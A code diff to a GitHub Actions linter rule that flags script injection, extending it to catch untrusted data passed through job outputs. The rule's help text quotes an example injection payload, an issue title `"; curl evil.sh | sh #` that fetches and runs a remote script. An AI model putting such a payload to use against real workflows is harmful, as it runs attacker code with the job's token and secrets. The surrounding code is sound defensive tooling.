@@ -5,7 +5,7 @@
  */
 import type { TemplateToken } from '@actions/workflow-parser/templates/tokens/index';
 import type { Rule } from '../../rule.js';
-import type { ActionModel, FileModel, JobModel, StepModel } from '../../model.js';
+import type { ActionModel, FileModel, JobModel, StepModel, WorkflowModel } from '../../model.js';
 import { contextChains, expressionSites, type Segment } from '../../expressions.js';
 import { entryOf, textOf } from './tokens.js';
 import { CODE_INPUTS, TAINTED_OUTPUTS, UNTRUSTED_CONTEXTS } from './sources.js';
@@ -73,12 +73,32 @@ function taintedOutput(step: StepModel, name: string): string | undefined {
   return undefined;
 }
 
+/**
+ * Why the output `name` of job `id` carries untrusted data: its `outputs:` value expands
+ * untrusted input, or a step output that carries it (one level: a job's outputs name its steps).
+ */
+function taintedJobOutput(workflow: WorkflowModel, id: string, name: string): string | undefined {
+  const job = workflow.jobsByLowerId.get(id.toLowerCase());
+  const output = job?.outputs.get(name);
+  if (!job || !output) return undefined;
+  for (const site of expressionSites(output.value)) for (const chain of contextChains(site)) {
+    const path = untrusted(chain.segments);
+    if (path) return `job "${job.id.value}" outputs ${path}`;
+    const [ctx, step, outputs, stepOutput] = chain.segments.map((s) => s.name);
+    if (ctx !== 'steps' || outputs !== 'outputs' || !stepOutput) continue;
+    const source = job.steps.find((s) => s.id?.value === step);
+    const why = source && taintedOutput(source, stepOutput);
+    if (why) return `job "${job.id.value}" outputs steps.${step}.outputs.${stepOutput}, and step "${step}": ${why}`;
+  }
+  return undefined;
+}
+
 const rule: Rule = {
   id: 'PG200',
   name: 'untrusted-input-in-script',
   level: 'error',
-  description: 'Attacker-controlled data (titles, bodies, head refs, commit messages, `github.head_ref`, …, or a step output that carries them) expanded with `${{ }}` in `run:`, `actions/github-script`\'s `script:` or another action input that is code.',
-  help: 'A `${{ }}` is pasted into the script before the shell (or JavaScript) runs, so an issue title such as `"; curl evil.sh | sh #` becomes code that runs with the job\'s token and secrets: script injection. Pass the value through `env:` (`env: { TITLE: ${{ github.event.issue.title }} }`) and use it as `"$TITLE"` (or `process.env.TITLE`), where it stays data. The untrusted inputs are those of actionlint and GitHub\'s security hardening guide and the free-text fields of zizmor\'s context list; the code inputs of actions are zizmor\'s (CodeQL\'s sinks: `actions/github-script` `script`, `azure/cli` `inlineScript`, `mikefarah/yq` `cmd`, …); a step output is untrusted when the step writes untrusted data to `$GITHUB_OUTPUT` under its name, or is a file or branch name of `tj-actions/changed-files` or `tj-actions/branch-names`.',
+  description: 'Attacker-controlled data (titles, bodies, head refs, commit messages, `github.head_ref`, …, or a step or job output that carries them) expanded with `${{ }}` in `run:`, `actions/github-script`\'s `script:` or another action input that is code.',
+  help: 'A `${{ }}` is pasted into the script before the shell (or JavaScript) runs, so an issue title such as `"; curl evil.sh | sh #` becomes code that runs with the job\'s token and secrets: script injection. Pass the value through `env:` (`env: { TITLE: ${{ github.event.issue.title }} }`) and use it as `"$TITLE"` (or `process.env.TITLE`), where it stays data. The untrusted inputs are those of actionlint and GitHub\'s security hardening guide and the free-text fields of zizmor\'s context list; the code inputs of actions are zizmor\'s (CodeQL\'s sinks: `actions/github-script` `script`, `azure/cli` `inlineScript`, `mikefarah/yq` `cmd`, …); a step output is untrusted when the step writes untrusted data to `$GITHUB_OUTPUT` under its name, or is a file or branch name of `tj-actions/changed-files` or `tj-actions/branch-names`; a job output (`needs.<job>.outputs.<name>`) when its value is untrusted input or such a step output.',
   create(context) {
     return {
       step(step: StepModel, owner: JobModel | ActionModel, file: FileModel) {
@@ -102,10 +122,16 @@ const rule: Rule = {
                 continue;
               }
               const [ctx, id, outputs, name] = chain.segments.map((s) => s.name);
-              if (ctx !== 'steps' || outputs !== 'outputs' || !name || name === '*') continue;
-              const source = earlier.find((s) => s.id?.value === id);
-              const why = source && taintedOutput(source, name);
-              if (why) context.report(file.file, chain.segments[0], `"${shown}" carries untrusted input (step "${id}": ${why}) expanded in ${where}, where it can inject code; pass it through env: and use the variable instead`);
+              if (outputs !== 'outputs' || !name || name === '*') continue;
+              let why: string | undefined;
+              if (ctx === 'steps') {
+                const source = earlier.find((s) => s.id?.value === id);
+                const tainted = source && taintedOutput(source, name);
+                why = tainted && `step "${id}": ${tainted}`;
+              } else if (ctx === 'needs' && file.kind === 'workflow') {
+                why = taintedJobOutput(file, id, name);
+              }
+              if (why) context.report(file.file, chain.segments[0], `"${shown}" carries untrusted input (${why}) expanded in ${where}, where it can inject code; pass it through env: and use the variable instead`);
             }
           }
         }
